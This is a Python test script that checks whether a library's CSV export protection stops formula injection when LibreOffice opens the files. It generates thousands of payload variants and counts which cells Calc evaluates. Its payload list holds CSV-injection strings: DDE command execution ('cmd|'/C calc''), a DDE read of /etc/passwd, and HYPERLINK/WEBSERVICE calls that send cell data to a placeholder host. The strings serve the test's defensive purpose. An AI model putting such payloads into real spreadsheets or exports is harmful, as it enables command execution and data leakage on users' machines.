"""Exports opened in LibreOffice, as people do and as they should not: what does it calculate?

`.venv/bin/python -m trials.spreadsheet` needs `soffice` on PATH (Debian: libreoffice-calc). It writes cells
that could be formulas to CSV, protected and exact, and to XLSX, has LibreOffice open each with every
delimiter, and looks for formulas in what it makes of them. It then has LibreOffice save the protected file
and reads that again. It ends with 1 where a protected cell is calculated or comes back as another, and also
where no exact cell is calculated: then it would find nothing.
"""

import io
import itertools
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path

from ingestion.csv_file.options import ParseOptions
from ingestion.csv_file.records import open_contacts
from ingestion.formats import write_xlsx
from ingestion.protection import csv_line, protected
from ingestion.rules.validation import ContactColumns

PAYLOADS = (
    "=1+1",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    '=HYPERLINK("http://example.com/?"&A1;"Click")',
    "=cmd|'/C calc'!A0",
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=WEBSERVICE("http://example.com/")',
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
BEFORE = ("", " ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\x0b", '"', "'", "''")
SEPARATORS = ("", "a;", "a\t", "a|", "a,", "a\n", "a\r\n", "a\r", ";", "\t", "\r", "\n", 'a;"', "a\n;")
AFTER = ("", ";", "\t", "|", "\n")
HARMLESS = (
    "+49 30 123456",
    "+49-30-123",
    "+49 (0)30/123-45",
    "+1 (555) 010-9999",
    "+4930123456",
    "-5",
    "-1.5",
    "-1,234.56",
    "-1.234,56 €",
    "- 5",
    "+5 %",
    "-1e5",
    "-",
    "--",
)
"""What `protect` leaves alone."""

# https://wiki.documentfoundation.org/Documentation/DevGuide/Spreadsheet_Documents#Filter_Options: separators,
# quote, UTF-8, first line, columns, language, quoted as text, special numbers, two of saving, without spaces,
# sheet, formulas.
_FILTER = "{separators},34,76,1,,{language},false,true,false,false,{trimmed},0,true"
_WAYS = {
    "as it comes": "",
    "comma": _FILTER.format(separators="44", language=1033, trimmed="false"),
    "comma, blanks removed": _FILTER.format(separators="44", language=1033, trimmed="true"),
    "semicolon": _FILTER.format(separators="59", language=1031, trimmed="false"),
    "tab": _FILTER.format(separators="9", language=1033, trimmed="false"),
    "pipe": _FILTER.format(separators="124", language=1033, trimmed="false"),
    "comma, semicolon and tab": _FILTER.format(separators="44/59/9", language=1033, trimmed="true"),
}
_CALCULATED = re.compile(r'table:formula="([^"]*)"')
_AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"
_NAMES = ["e-mail", "cell", "=cell", "last"]


def main() -> int:
    """Convert, look, print a line for each way."""
    if shutil.which("soffice") is None:
        print("There is no soffice on PATH. Install LibreOffice Calc and try again.")
        return 1
    cells = [*HARMLESS, *map("".join, itertools.product(SEPARATORS, BEFORE, PAYLOADS, AFTER))]
    rows = [_NAMES, *([f"a{at}@x.com", cell, cell, "end"] for at, cell in enumerate(cells))]
    first = [["=cell", *_NAMES[:2]], *([cell, f"a{at}@x.com", "end"] for at, cell in enumerate(cells))]
    print(
        f"{len(cells):,} cells, {len(set(cells)):,} of them different; formulas that LibreOffice calculates:"
    )
    print(f"{'opened with':<26} {'exact':>8} {'protected':>10}")
    with tempfile.TemporaryDirectory(prefix="spreadsheet-") as scratch:
        folder = Path(scratch)
        found = {way: _both(folder, (rows, first), how) for way, how in _WAYS.items()}
        for way, (exact, safe) in found.items():
            print(f"{way:<26} {exact:>8,} {safe:>10,}")
        book = folder / "exact.xlsx"
        with book.open("w+b") as file:
            write_xlsx(_NAMES, rows[1:], file)
        in_book = len(formulas_in(book))
        print(f"{'XLSX, exact cells':<26} {in_book:>8,}")
        lost = _lost_by_saving(folder, rows)
        print(f"Saved by LibreOffice and read again: {len(lost):,} cells are others than they were")
        for row in lost[:20]:
            print("   ", *map(ascii, row))
    are_safe = not in_book and not any(safe for _, safe in found.values())
    return 0 if are_safe and all(exact for exact, _ in found.values()) and not lost else 1


def formulas_in(file: Path, how: str = "") -> list[str]:
    """The formulas of the cells that LibreOffice calculates in a file, opened with these filter options."""
    made = _converted(file, "fods", how)
    return _CALCULATED.findall(made.read_text(encoding="utf-8"))


def _both(folder: Path, tables: Sequence[list[list[str]]], how: str) -> tuple[int, int]:
    """How many formulas there are in tables written with exact cells, and with protected ones."""
    exact = safe = 0
    for rows in tables:
        exact += len(formulas_in(_written(folder / "exact.csv", rows, is_protected=False), how))
        safe += len(formulas_in(_written(folder / "protected.csv", rows, is_protected=True), how))
    return exact, safe


def _written(file: Path, rows: list[list[str]], *, is_protected: bool) -> Path:
    content = "".join(csv_line(row) + "\n" for row in rows).encode()
    file.write_bytes(b"".join(protected(io.BytesIO(content))) if is_protected else content)
    return file


def _lost_by_saving(folder: Path, rows: list[list[str]]) -> list[list[str]]:
    """The rows that are others once LibreOffice has opened and saved the protected file."""
    options = ParseOptions(ContactColumns(0), is_protected=True)
    file = _written(folder / "protected.csv", rows, is_protected=True)
    saved = _converted(file, _AS_CSV, _WAYS["comma"])
    with open_contacts(saved, options) as contacts:
        read = [cells for table in contacts.tables for cells in table.rows]
    kept = rows[1 + len(HARMLESS) :]  # those are numbers there, and written as it writes numbers
    read = read[len(HARMLESS) :]
    if len(kept) != len(read):
        return kept
    return [
        was for was, now in zip(kept, read, strict=True) if _with_line_feeds(was) != _with_line_feeds(now)
    ]


def _with_line_feeds(row: list[str]) -> list[str]:
    """As LibreOffice saves all line ends."""
    return [cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row]


def _converted(file: Path, to: str, how: str) -> Path:
    folder = file.parent / "made"
    command = ["soffice", f"-env:UserInstallation=file://{file.parent}/profile", "--headless"]
    command += ["--convert-to", to, "--outdir", str(folder), *_filter(file, how), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return folder / f"{file.stem}.{to.split(':')[0]}"


def _filter(file: Path, how: str) -> Iterator[str]:
    if file.suffix == ".csv" and how:
        yield f"--infilter=CSV:{how}"


if __name__ == "__main__":
    sys.exit(main())
